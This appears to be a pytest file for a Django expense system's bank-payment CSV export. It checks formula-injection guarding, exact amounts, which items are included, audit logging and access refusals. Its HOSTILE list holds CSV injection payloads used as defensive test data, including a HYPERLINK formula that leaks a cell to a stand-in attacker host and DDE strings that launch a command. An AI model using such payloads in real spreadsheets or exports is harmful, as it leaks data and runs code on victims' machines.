"""The file for the bank: exact, harmless in a spreadsheet, and only what belongs in it."""

import csv
import io
import uuid

import pytest
from django.urls import reverse

from coprod import clocks
from coprod.exceptions import TransitionNotAllowed
from coprod.models import AuditEvent
from expenses.accounts import Account
from expenses.models import Advance
from expenses.services.bank_file import HEADINGS, fetch_file
from expenses.services.paying import cancel_run, make_run, pay_run
from projects.tables import starts_formula, unguarded
from tests.expenses.banking import ACCOUNT, with_bank
from tests.expenses.test_paying import run_of
from tests.factories.members import PersonFactory, RoleFactory
from tests.factories.money import ClaimFactory, PolicyFactory, RecognitionFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1,"Refund")',
    "+44 1632 960100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab",
    "\rReturn",
    "＝1+1",
    "'=1+1",
    "|calc",
    'Quote " and, comma',
    "Zoë Ní Bhraonáin",
]


@pytest.fixture(autouse=True)
def policy(forum):
    return PolicyFactory()


def rows_of(content):
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_file_when_names_are_hostile_then_no_cell_is_a_formula(treasurer):
    claims = []
    for number, name in enumerate(HOSTILE):
        person = PersonFactory(name=name)
        with_bank(person, Account(name, "010203", f"{number:08}"))
        claims.append(ClaimFactory(person=person, state="approved"))
    made = fetch_file(run=run_of(*claims, by=treasurer), by=treasurer)
    rows = rows_of(made.content)
    assert rows[0] == list(HEADINGS)
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        assert len(row) == 5
        for cell in row:
            assert cell == cell.lstrip()
            assert cell[0] not in "=+-@\t\r\n"
            assert not starts_formula(cell) or cell.startswith("'")
    assert [unguarded(row[0]) for row in rows[1:]] == HOSTILE


@pytest.mark.parametrize(
    ("pence", "said"),
    [(1, "0.01"), (9, "0.09"), (10, "0.10"), (99, "0.99"), (100, "1.00"), (123456, "1234.56")],
)
def test_file_when_amounts_are_odd_then_exact(pence, said, rep, treasurer):
    with_bank(rep)
    line = {"kind": "parking", "pence": pence}
    claim = ClaimFactory(person=rep, state="approved", lines=[line])
    made = fetch_file(run=run_of(claim, by=treasurer), by=treasurer)
    assert rows_of(made.content)[1] == [
        ACCOUNT.name,
        ACCOUNT.sort_code,
        ACCOUNT.number,
        said,
        claim.reference,
    ]


def test_file_when_a_run_holds_everything_then_only_what_the_bank_pays(treasurer):
    people = [PersonFactory() for _ in range(4)]
    for person in people[:3]:
        with_bank(person)
    claim = ClaimFactory(person=people[0], state="approved")
    cheque = ClaimFactory(person=people[1], state="approved", pay_by="cheque")
    covered = ClaimFactory(person=people[2], state="approved")
    bare = ClaimFactory(person=people[3], state="approved")
    Advance.objects.create(person=people[2], what_for="Train", pence=9999, state="paid")
    thanks = RecognitionFactory(person=people[0], state="accepted")
    advance = Advance.objects.create(
        person=people[1], what_for="Train", pence=5000, state="approved"
    )
    run = make_run(
        claims=[claim, cheque, covered, bare],
        advances=[advance],
        recognitions=[thanks],
        by=treasurer,
        key=uuid.uuid4(),
    )
    rows = rows_of(fetch_file(run=run, by=treasurer).content)[1:]
    assert [row[3:] for row in rows] == [
        ["6.60", f"MB-{claim.pk:04}"],
        ["50.00", f"AD-{advance.pk:04}"],
        ["25.00", f"TY-{thanks.pk:04}"],
    ]


def test_file_when_fetched_then_kept_by_whom_and_named_without_names(rep, treasurer, client_for):
    with_bank(rep)
    run = run_of(ClaimFactory(person=rep, state="approved"), by=treasurer)
    page = client_for(treasurer).post(reverse("expenses:run_csv", args=[run.pk]))
    assert page["Content-Type"] == "text/csv; charset=utf-8"
    assert page["Content-Disposition"] == f'attachment; filename="payment-run-{run.pk}.csv"'
    assert "no-store" in page["Cache-Control"]
    run.refresh_from_db()
    assert run.fetched_by == treasurer
    event = AuditEvent.objects.get(verb="fetch_run")
    assert event.data == {"payments": 1, "left_out": 0}
    seen = AuditEvent.objects.get(verb="view_bank_details")
    assert (seen.object_id, seen.by_id) == (rep.pk, treasurer.pk)


@pytest.mark.parametrize("end", ["paid", "cancelled"])
def test_file_when_the_run_is_over_then_there_is_none(end, rep, treasurer, client_for):
    with_bank(rep)
    run = run_of(ClaimFactory(person=rep, state="approved"), by=treasurer)
    if end == "paid":
        pay_run(run=run, by=treasurer, paid_on=clocks.today())
    else:
        cancel_run(run=run, by=treasurer)
    with pytest.raises(TransitionNotAllowed, match="no file any more"):
        fetch_file(run=run, by=treasurer)
    page = client_for(treasurer).post(reverse("expenses:run_csv", args=[run.pk]), follow=True)
    assert "There is no file any more" in page.content.decode()


def test_file_when_a_payment_is_for_the_treasurer_who_asks_then_refused(rep, treasurer):
    with_bank(rep)
    RoleFactory(person=rep, kind="treasurer")
    run = run_of(ClaimFactory(person=rep, state="approved"), by=treasurer)
    with pytest.raises(TransitionNotAllowed):
        fetch_file(run=run, by=rep)
    assert not AuditEvent.objects.filter(verb="view_bank_details").exists()
